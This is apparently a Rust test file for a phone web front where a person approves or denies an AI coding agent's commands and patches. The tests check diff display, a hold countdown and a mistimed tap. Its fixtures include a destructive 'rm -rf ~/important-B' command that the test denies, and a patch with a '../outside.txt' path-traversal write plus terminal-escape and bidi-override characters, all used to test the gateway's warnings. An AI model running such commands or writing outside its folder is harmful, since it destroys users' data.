    let patch_card = card(&id_of(&codex_patch(&front, patch)));
    front.with_paired(Browser::phone(Theme::Light), "patch phone", async |phone| {
        let lines = diff_lines(phone, &patch_card).await;
        let lines = lines.as_array().unwrap();
        for expected in [
            json!(["file", "--- a/hello.txt"]),
            json!(["del", "-hello"]),
            json!(["add", "+\\e[31mbye\\u{202e}"]),
            json!(["file", "+++ b/../outside.txt"]),
            json!(["add", "+one"]),
            json!(["file", "--- a/a.txt"]),
            json!(["file", "+++ /dev/null"]),
        ] {
            assert!(lines.contains(&expected), "{expected} in {lines:?}");
        }
        let title = phone.text(&format!("{patch_card} .preview-title")).await;
        assert!(
            title.contains("OUTSIDE the session's folder /home/dev/project: ../outside.txt"),
            "{title}"
        );
    });
}

/// Seconds from a `hold_ends_at` or `created_at` text to another, as the page reads them.
fn millis_between(earlier: &Value, later: &Value) -> i64 {
    let parse = |value: &Value| {
        gatehouse_core::Timestamp::parse_rfc3339(value.as_str().unwrap_or_default())
            .unwrap_or_else(|| panic!("an RFC 3339 timestamp: {value}"))
            .unix_millis() as i64
    };
    parse(later) - parse(earlier)
}

#[test]
fn a_held_prompts_card_counts_down_says_what_happens_then_and_offers_nothing_once_the_hold_ended() {
    let Some(front) = Front::start() else {
        return;
    };
    front.with_paired(Browser::phone(Theme::Light), "hold phone", async |phone| {
        // Held for 12 s, as an installer's GATEHOUSE_HOOK__WAIT_SECONDS would set it.
        let _hook = front.spawn_hook(
            "claude",
            bash_event(json!({ "command": "make release" }))
                .to_string()
                .as_bytes(),
            &[("GATEHOUSE_HOOK__WAIT_SECONDS", "12")],
        );
        let prompt = front.wait_for_pending(1).remove(0);
        // `list --json` says when the hold ends and what happens then, in Claude Code's words.
        // The hook asks for what is left of its wait when it reaches the front.
        let held_for = millis_between(&prompt["created_at"], &prompt["hold_ends_at"]);
        assert!(
            (10_000..=12_000).contains(&held_for),
            "{held_for} ms: {prompt}"
        );
        let after = prompt["after_hold"].as_str().unwrap_or_default().to_owned();
        assert!(
            after.contains("Claude Code's terminal meanwhile too, and the first answer wins"),
            "{prompt}"
        );
        let card = card(&id_of(&prompt));
        let left = format!("{card} [data-hold-left]");
        phone.wait_for(&left).await;
        // One short line, then what happens then one tap away, in the gateway's words.
        let hold = phone.text(&format!("{card} [data-hold]")).await;
        assert!(hold.contains("left to answer here"), "{hold}");
        phone.click(&format!("{card} [data-then]")).await;
        let then = phone.text(&format!("{card} [data-after-hold]")).await;
        assert!(then.contains(after.trim_start_matches("then ")), "{then}");
        // It counts down while the page is open.
        let first = phone.text(&left).await;
        phone
            .wait_until(DEADLINE, "the countdown to move", async |page| {
                let now = page.text(&left).await;
                !now.is_empty() && now != first
            })
            .await;
        let seconds = |text: &str| text.trim_end_matches('s').parse::<u64>().unwrap_or(99);
        assert!(
            seconds(&phone.text(&left).await) < seconds(&first),
            "{first}"
        );
        assert!(!disabled(phone, &format!("{card} [data-action='once']")).await);
        phone.screenshot("held-countdown-phone", PHONE).await;
        // At the end, the card offers nothing and says what happened instead.
        phone
            .wait_until(
                DEADLINE,
                "the card to stop offering actions",
                async |page| page.count(&format!("{card} [data-action]")).await == 0,
            )
            .await;
        phone
            .wait_until(DEADLINE, "the card to say the hold ended", async |page| {
                let text = dom_text(page, &card).await;
                text.contains(&after)
                    && (text.contains("The hold has ended") || text.contains("the hold ended"))
            })
            .await;
        // The gateway expired it too.
        front.wait_for_pending(0);
    });
}

/// A careless tap: the card under the finger is answered elsewhere and the next one slides into
/// its place. The tap that lands in that moment is not taken, and says so; once the list has been
/// still, the same button works.
#[test]
fn a_tap_that_lands_as_the_list_moves_answers_nothing() {
    let Some((front, [(_first_hook, first), (second_hook, second)])) = Front::holding([
        claude_bash("echo safe-A"),
        claude_bash("rm -rf ~/important-B"),
    ]) else {
        return;
    };
    let (first_id, second_id) = (id_of(&first), id_of(&second));
    let second_deny = format!("{} [data-action='deny']", card(&second_id));
    front.with_paired(Browser::phone(Theme::Light), "careless phone", async |phone| {
        phone.wait_for(&second_deny).await;
        // In the page, the moment the first card leaves its place (it stays there, ended, for a
        // few seconds first), tap the second's Deny, which slid up into it.
        let tapped = phone.client.execute_async(
            "const [first, button, done] = arguments;
             const timer = setInterval(() => {
               if (!document.querySelector(`[data-ended-items] [data-prompt-id='${first}']`)) return;
               clearInterval(timer);
               document.querySelector(button).click();
               done(Boolean(document.querySelector(button).closest('[data-settling]')));
             }, 2);",
            vec![json!(first_id), json!(second_deny)],
        );
        let answered = front.run(&["answer", first["short_id"].as_str().unwrap(), "deny"]);
        assert!(answered.status.success(), "{answered:?}");
        let settling = tapped.await.expect("the tap ran");
        assert_eq!(settling, json!(true), "the card had just moved");
        let status = phone.text(&format!("{} [data-status]", card(&second_id))).await;
        assert!(status.contains("Not sent: this card just came or moved"), "{status}");
        assert!(
            front.list().iter().any(|prompt| prompt["id"] == second["id"]),
            "the tap answered nothing"
        );
        // Once the list is still, the button works.
        phone.click(&second_deny).await;
        wait_until_ended(phone, &second_id, "deny").await;
    });
    let output = crate::common::finish(second_hook, DEADLINE);
    assert!(String::from_utf8_lossy(&output.stdout).contains("deny"));
}

/// Waits for the diff of the card `card_css` (see [`card`]) and returns its lines as the page
/// shows them: each its kind (`file`, `add`, `del`, ...) and its text.
async fn diff_lines(phone: &Browser, card_css: &str) -> Value {
    phone.wait_for(&format!("{card_css} [data-diff]")).await;
    script(
        phone,
        "return Array.from(document.querySelectorAll(arguments[0])).map(l => [l.dataset.diffLine, l.textContent])",
        vec![json!(format!("{card_css} [data-diff-line]"))],
    )
    .await
}
